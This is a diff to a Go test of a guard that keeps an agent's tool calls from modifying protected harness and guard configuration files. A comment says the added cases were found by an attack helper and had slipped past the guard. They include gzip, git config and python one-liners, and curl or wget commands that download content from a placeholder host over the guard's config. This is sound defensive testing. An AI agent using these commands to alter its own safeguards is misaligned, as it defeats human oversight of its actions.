@@ -257,6 +257,17 @@ func TestSelfProtectionElsewhere(t *testing.T) {
 		{"Bash", "echo x > " + home + "/opt/cc/NOTES.md", false},
 		{"Bash", "cat " + home + "/srv/hg/config.yaml", false},
 		{"Write", home + "/cfg/other/app.json", false},
+		// Found by the attack helper (2026-12-03): each was allowed.
+		{"Bash", "gzip " + home + "/opt/cc/settings.json", true},
+		{"Bash", "uniq /dev/null ~/opt/cc/settings.json", true},
+		{"Bash", "git config -f ~/srv/hg/config.yaml a.b c", true},
+		{"Bash", "curl -so" + home + "/srv/hg/config.yaml https://x.example/c", true},
+		{"Bash", "wget -qO$HOME/srv/hg/config.yaml https://x.example/c", true},
+		{"Bash", "cd ~/srv/hg && curl -O https://x.example/config.yaml", true},
+		{"Bash", "cd ~/srv/hg && wget https://x.example/config.yaml", true},
+		{"Bash", "python3 -c 'import os; open(os.path.join(os.environ[\"HGUARD_HOME\"], \"config.yaml\"), \"w\").write(\"\")'", true},
+		{"Bash", "jq .hooks " + home + "/opt/cc/settings.json", false},
+		{"Bash", "gzip notes.txt", false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.tool+" "+tt.arg, func(t *testing.T) {
